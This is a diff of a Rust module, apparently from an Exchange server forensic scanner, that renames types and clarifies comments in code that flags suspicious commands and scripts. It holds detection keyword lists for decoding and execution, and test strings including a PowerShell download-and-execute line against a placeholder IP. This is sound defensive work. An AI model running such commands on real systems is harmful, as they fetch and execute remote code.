@@ -8,7 +8,7 @@ use super::command_line::{
     writes,
 };
 pub(super) use super::command_line::{is_script, tokens};
-use super::{Area, Plan};
+use super::plan::{Area, Plan};
 use crate::catalogue::ExchangeFolder;
 use crate::evidence::{Evidence, Resolver, classify};
 use crate::model::drop_folders::{self, Found};
@@ -21,13 +21,13 @@ use std::io::Read;
 pub(super) const MAX_TEXT: u64 = 2 << 20;
 /// Scripts that one names, and those name, that are read.
 const MOST_SCRIPTS: usize = 100;
-/// Lines of a script of which the telling one is looked for.
+/// Lines of a script that are searched for the one to show.
 const MOST_LINES: usize = 2_000;
-/// Characters of a command that are told.
+/// Characters of a command that are shown.
 const EXCERPT: usize = 400;
 
-/// What is known of the volume whose commands are judged.
-pub(super) struct Ground<'g, 'e> {
+/// The volume whose commands are checked.
+pub(super) struct VolumeContext<'g, 'e> {
     pub(super) evidence: &'e dyn Evidence,
     pub(super) resolver: &'g Resolver<'e>,
     /// The letter of the system's volume.
@@ -38,21 +38,21 @@ pub(super) struct Ground<'g, 'e> {
     exchange: String,
 }
 
-/// One thing that speaks against a command.
+/// What a check found in a command.
 #[derive(Clone, Debug, PartialEq, Eq)]
-pub(super) struct Sign {
+pub(super) struct CheckHit {
     pub(super) check: &'static CheckInfo,
     pub(super) score: u8,
     words: &'static str,
 }
 
-impl Sign {
-    /// A script among signed ones: somebody's own, or changed after setup.
+impl CheckHit {
+    /// An unsigned script among signed ones: added, or changed after setup.
     pub(super) fn unsigned() -> Self {
         Self { check: &checks::UNSIGNED_SCRIPT, score: 25, words: "has no signature, unlike the others here" }
     }
 
-    /// A library of PHP that lies nowhere near it.
+    /// A library of PHP that is nowhere near it.
     pub(super) fn extension() -> Self {
         Self { check: &checks::PHP_EXTENSION_PATH, score: 30, words: "an extension outside its own folder" }
     }
@@ -73,7 +73,7 @@ pub(super) struct Command<'c> {
     pub(super) folder: &'c str,
 }
 
-impl<'g, 'e> Ground<'g, 'e> {
+impl<'g, 'e> VolumeContext<'g, 'e> {
     pub(super) fn new(
         evidence: &'e dyn Evidence,
         resolver: &'g Resolver<'e>,
@@ -81,7 +81,7 @@ impl<'g, 'e> Ground<'g, 'e> {
         drives: &'g [char],
         plan: &Plan,
     ) -> Self {
-        // Of an installation of Exchange the programs are examined whole as well, and its services lie there.
+        // Of an installation of Exchange the programs are examined whole as well, and its services are there.
         let is_web = |area: &Area| match area.role {
             Role::Unknown => false,
             Role::Exchange => ExchangeFolder::Web.folders().any(|name| same_name(area.path.name(), name)),
@@ -96,31 +96,31 @@ impl<'g, 'e> Ground<'g, 'e> {
         Self { evidence, resolver, system, drives, web, exchange }
     }
 
-    /// Judges a command; what speaks against it is noted of `file`, which says so. Scripts that it runs are examined, and judged as well.
+    /// Checks a command; what is found is noted for `file`, which contains the command. Scripts that it runs are examined and checked as well.
     pub(super) fn command(&self, file: &ServerPath, command: &Command<'_>, plan: &mut Plan) {
         let line = self.plain(&command.line);
-        let mut signs = self.signs(&line, false);
+        let mut hits = self.hits(&line, false);
         let (program, tokens) = self.placed(&line, &self.plain(command.folder));
-        signs.extend(self.place(&program, &tokens));
+        hits.extend(self.place(&program, &tokens));
         // Whatever it is called, what an interpreter is given is a script.
         let interpreted = ["wscript", "cscript", "mshta", "python", "php", "perl", "ruby"]
             .iter()
             .any(|name| program.rsplit('\\').next().unwrap_or_default().starts_with(name));
-        let given = |at: usize| {
+        let is_argument = |at: usize| {
             let before = at.checked_sub(1).and_then(|at| tokens.get(at)).map_or("", String::as_str);
             interpreted || matches!(before, "-file" | "-f" | "\\c" | "\\k")
         };
         let named = tokens
             .iter()
             .enumerate()
-            .filter(|(at, token)| is_script(token) || given(*at) && is_absolute(token) && !is_library(token));
+            .filter(|(at, token)| is_script(token) || is_argument(*at) && is_absolute(token) && !is_library(token));
         for script in named.map(|(_, token)| token).chain([&program].into_iter().filter(|program| is_script(program))) {
             for script in self.files(script) {
                 let title = format!("{} runs it, and it ", command.by);
                 self.script(&script, &title, plan);
             }
         }
-        note(plan, file, &signs, &format!("{} ", command.by), &command.line);
+        note(plan, file, &hits, &format!("{} ", command.by), &command.line);
     }
 
     /// The program and the words of a command, what it runs by a relative path put into the folder that it runs in: that of the
@@ -203,33 +203,33 @@ impl<'g, 'e> Ground<'g, 'e> {
         Some(normal(&format!("{folder}\\{path}")))
     }
 
-    /// Judges a script, and those that it names, which are examined as well.
+    /// Checks a script and those that it names, which are examined as well.
     pub(super) fn script(&self, script: &ServerPath, title: &str, plan: &mut Plan) {
         let mut waiting = vec![script.clone()];
-        let mut judged = 0;
+        let mut checked = 0;
         while let Some(script) = waiting.pop() {
-            // One that another command named is judged already.
-            if judged > 0 && plan.files.contains(&script) || judged > MOST_SCRIPTS {
+            // One that another command named is checked already.
+            if checked > 0 && plan.files.contains(&script) || checked > MOST_SCRIPTS {
                 continue;
             }
-            judged += 1;
+            checked += 1;
             waiting.extend(self.one_script(&script, title, plan));
         }
     }
 
-    /// Judges one script and gives those that it names.
+    /// Checks one script and returns those that it names.
     fn one_script(&self, script: &ServerPath, title: &str, plan: &mut Plan) -> Vec<ServerPath> {
         let Some(text) = read(self.evidence, script, plan) else { return Vec::new() };
         let plain = self.plain(&text);
-        let signs = self.signs(&plain, true);
+        let hits = self.hits(&plain, true);
         let named = tokens(&plain).into_iter().filter(|token| is_script(token) && is_absolute(token));
         let named = named.take(MOST_SCRIPTS).flat_map(|token| self.files(&token)).collect();
-        let mut lines = text.lines().filter(|_| !signs.is_empty()).take(MOST_LINES);
-        let excerpt = lines.find(|line| !self.signs(&self.plain(line), false).is_empty());
+        let mut lines = text.lines().filter(|_| !hits.is_empty()).take(MOST_LINES);
+        let excerpt = lines.find(|line| !self.hits(&self.plain(line), false).is_empty());
         if !plan.files.contains(script) {
             plan.files.push(script.clone());
         }
-        note(plan, script, &signs, title, excerpt.or(text.lines().next()).unwrap_or_default());
+        note(plan, script, &hits, title, excerpt.or(text.lines().next()).unwrap_or_default());
         named
     }
 
@@ -275,40 +275,40 @@ impl<'g, 'e> Ground<'g, 'e> {
 
     fn is_web(&self, path: &str) -> bool {
         // Folders of these names alone are backups too: those that are served are known.
-        const MARKS: &[&str] =
+        const WEB_FOLDERS: &[&str] =
             &[r"\aspnet_client\", r"\owa\auth\", r"\ecp\auth\", r"\web server extensions\", r"\inetpub\wwwroot\"];
         let path = format!("{}\\", path.trim_end_matches('\\'));
         // A path without a drive is one of the drive that it is used on.
         let rooted =
             |folder: &String| path.starts_with('\\') && folder.get(2..).is_some_and(|rest| path.starts_with(rest));
         if self.web.iter().any(|folder| path.starts_with(folder) || rooted(folder))
-            || MARKS.iter().any(|mark| path.contains(mark))
+            || WEB_FOLDERS.iter().any(|folder| path.contains(folder))
         {
             return true;
         }
         // Short names are those of folders that exist.
         let longest = path.match_indices('\\').map(|(at, _)| &path[..at]).filter(|part| part.contains('~')).take(12);
-        let given = |path: &ServerPath| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter));
-        longest.filter_map(ServerPath::from_windows).filter(given).any(|part| {
+        let is_provided = |path: &ServerPath| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter));
+        longest.filter_map(ServerPath::from_windows).filter(is_provided).any(|part| {
             let real = self.resolver.folders(&part).into_iter().map(|folder| format!("{}\\", folder.folded()));
             real.into_iter().any(|real| self.web.iter().any(|folder| real.starts_with(folder)))
         })
     }
 
-    /// What a text, folded and with variables put in, says. Of a script all lines count together.
-    fn signs(&self, text: &str, is_script: bool) -> Vec<Sign> {
+    /// What a text, folded and with variables expanded, says. Of a script all lines count together.
+    fn hits(&self, text: &str, is_script: bool) -> Vec<CheckHit> {
         let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
-        // Of a script, two things on one line belong together; in a long one that does a lot they may be strangers.
+        // Of a script, two things on one line belong together; in a long one that does a lot they may be unrelated.
         let together = |one: &[&str], other: &[&str]| {
             let of = |line: &str, words: &[&str]| words.iter().any(|word| line.contains(word));
             text.lines().any(|line| of(line, one) && of(line, other))
         };
-        let mut signs = Vec::new();
-        let mut add = |check, score, words| signs.push(Sign { check, score, words });
+        let mut hits = Vec::new();
+        let mut add = |check, score, words| hits.push(CheckHit { check, score, words });
         if has(&["powershell", "pwsh"]) && has_encoded(text) {
             add(&checks::ENCODED_POWERSHELL, 60, "runs an encoded command");
         }
-        // The signature that Exchange's own scripts end with is not checked here, so it clears nothing on one line.
+        // The signature that Exchange's own scripts end with is not checked here, so it does not clear what stands on one line.
         let signed = is_script && has(&["# sig # begin signature block"]);
         const DECODES: &[&str] = &["frombase64string", "-decode", "\\decode", "fromhexstring", "-decodehex"];
         const RUNS: &[&str] =
@@ -349,7 +349,7 @@ impl<'g, 'e> Ground<'g, 'e> {
             add(&checks::CONTAINS_SERVER_CODE, 75, "contains server code");
         }
         let lines: Vec<&str> = text.split(['\n', '\r']).collect();
-        // Exchange's own scripts handle its pages and configuration by variables; whole paths are nobody's but an intruder's.
+        // Exchange's own scripts handle its pages and configuration by variables; only an intruder writes whole paths.
         let page = |token: &String| is_page(token) && (!signed || is_absolute(token) && self.is_web(token));
         let writes_page = lines.iter().any(|line| writes(line) && tokens(line).iter().any(page));
         let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
@@ -359,7 +359,7 @@ impl<'g, 'e> Ground<'g, 'e> {
         } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
             add(&checks::WRITES_TO_WEB_FOLDER, 60, "writes to a web folder");
         }
-        signs
+        hits
     }
 
     /// Whether a line copies, or writes, into a web folder; one that copies from there is a backup.
@@ -385,9 +385,9 @@ impl<'g, 'e> Ground<'g, 'e> {
         redirected || WRITERS.iter().any(|word| line.contains(word)) && tokens.iter().any(web)
     }
 
-    /// What the place of the program, and of a script that it is given, says.
-    pub(super) fn place(&self, program: &str, tokens: &[String]) -> Vec<Sign> {
-        let mut worst: Option<Sign> = None;
+    /// Checks where the program, and a script among its arguments, is.
+    pub(super) fn place(&self, program: &str, tokens: &[String]) -> Vec<CheckHit> {
+        let mut worst: Option<CheckHit> = None;
         for (path, is_program) in [(program, true)]
             .into_iter()
             .chain(tokens.iter().filter(|token| is_script(token) || is_library(token)).map(|t| (t.as_str(), false)))
@@ -396,33 +396,37 @@ impl<'g, 'e> Ground<'g, 'e> {
             if !(is_absolute(path) || path.starts_with('\\') && path.len() > 3) {
                 continue;
             }
-            let sign = if path.starts_with("\\\\") {
-                Some(Sign { check: &checks::RUNS_FROM_REMOTE_HOST, score: 30, words: "runs a file on a remote host" })
-            } else if is_stock_service(path) {
+            let hit = if path.starts_with("\\\\") {
+                Some(CheckHit {
+                    check: &checks::RUNS_FROM_REMOTE_HOST,
+                    score: 30,
+                    words: "runs a file on a remote host",
+                })
+            } else if is_exchange_service(path) {
                 None
             } else if self.is_web(path) {
                 // Pages of PHP that a timer runs are ordinary.
                 let php = !is_program && kind::is_php(&extension(path));
-                Some(Sign {
+                Some(CheckHit {
                     check: &checks::RUNS_FROM_WEB_FOLDER,
                     score: if php { 25 } else { 60 },
                     words: "runs a program from a web folder",
                 })
             } else {
-                drop_folder(path).map(|score| Sign {
+                drop_folder(path).map(|score| CheckHit {
                     check: &checks::RUNS_FROM_DROP_FOLDER,
                     score,
                     words: "runs a program from a drop folder",
                 })
             };
-            worst = sign.into_iter().chain(worst).max_by_key(|sign| sign.score);
+            worst = hit.into_iter().chain(worst).max_by_key(|hit| hit.score);
         }
         worst.into_iter().collect()
     }
 }
 
-/// Whether a program is one of Exchange's services that lie in its web folders. They are examined there as every file is.
-fn is_stock_service(path: &str) -> bool {
+/// Whether a program is one of Exchange's services that are in its web folders. They are examined there as every file is.
+fn is_exchange_service(path: &str) -> bool {
     const PROGRAMS: &[&str] = &[
         r"\frontend\popimap\microsoft.exchange.pop3service.exe",
         r"\frontend\popimap\microsoft.exchange.imap4service.exe",
@@ -441,11 +445,11 @@ fn drop_folder(path: &str) -> Option<u8> {
 }
 
 /// Notes what speaks against a command of a file, which is examined then.
-pub(super) fn note(plan: &mut Plan, file: &ServerPath, signs: &[Sign], title: &str, excerpt: &str) {
-    for sign in signs {
+pub(super) fn note(plan: &mut Plan, file: &ServerPath, hits: &[CheckHit], title: &str, excerpt: &str) {
+    for hit in hits {
         let excerpt: String = excerpt.trim().chars().take(EXCERPT).collect();
         let locations = vec![crate::model::Location::without_place("stored", excerpt)];
-        let reason = Reason::new(sign.check, sign.score, format!("{title}{}", sign.words), locations);
+        let reason = Reason::new(hit.check, hit.score, format!("{title}{}", hit.words), locations);
         let noted = plan.noted.entry(file.clone()).or_default();
         if noted.len() < 20 && !noted.iter().any(|known| known.id == reason.id) {
             noted.push(reason);
@@ -478,24 +482,24 @@ mod tests {
     use super::*;
     use crate::evidence::Memory;
 
-    fn signs(line: &str, is_script: bool) -> Vec<&'static str> {
+    fn hits(line: &str, is_script: bool) -> Vec<&'static str> {
         let evidence = Memory::new().folder(r"C:\inetpub\wwwroot");
         let resolver = Resolver::new(&evidence);
         let mut plan = Plan::default();
         let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
-        super::super::add(&mut plan, folder.clone(), Role::WebRoot, &folder, true);
+        plan.add_area(folder.clone(), Role::WebRoot, &folder, true);
         for folder in [r"C:\Ex\bin", r"C:\Ex\FrontEnd"] {
             let folder = ServerPath::from_windows(folder).expect("absolute");
-            super::super::add(&mut plan, folder.clone(), Role::Exchange, &folder, true);
+            plan.add_area(folder.clone(), Role::Exchange, &folder, true);
         }
-        let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
-        let line = ground.plain(line);
-        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.check.name()).collect();
+        let volume = VolumeContext::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
+        let line = volume.plain(line);
+        let mut hits: Vec<&str> = volume.hits(&line, is_script).iter().map(|hit| hit.check.name()).collect();
         if !is_script {
-            let (program, tokens) = ground.placed(&line, "");
-            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.check.name()));
+            let (program, tokens) = volume.placed(&line, "");
+            hits.extend(volume.place(&program, &tokens).iter().map(|hit| hit.check.name()));
         }
-        signs
+        hits
     }
 
     #[test]
@@ -534,14 +538,14 @@ mod tests {
             (r"7z x C:\data\a.7z -oC:\sites\a", &["writes_to_web_folder"]),
             (r"7z a D:\backup\a.7z C:\sites\a", &[]),
         ] {
-            assert_eq!(signs(line, false), expected, "{line}");
+            assert_eq!(hits(line, false), expected, "{line}");
         }
         assert_eq!(
-            signs("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
+            hits("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
             [""; 0]
         );
         assert_eq!(
-            signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true),
+            hits("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true),
             ["downloads_and_executes"]
         );
     }
@@ -549,9 +553,9 @@ mod tests {
     proptest::proptest! {
         #[test]
         fn no_text_makes_it_stop(text in proptest::prelude::any::<String>(), piece in "[a-z:\\\\\"' >=/.%-]{0,60}") {
-            signs(&text, true);
-            signs(&piece, false);
-            signs(&format!("copy {piece} {text}"), false);
+            hits(&text, true);
+            hits(&piece, false);
+            hits(&format!("copy {piece} {text}"), false);
         }
     }
 }
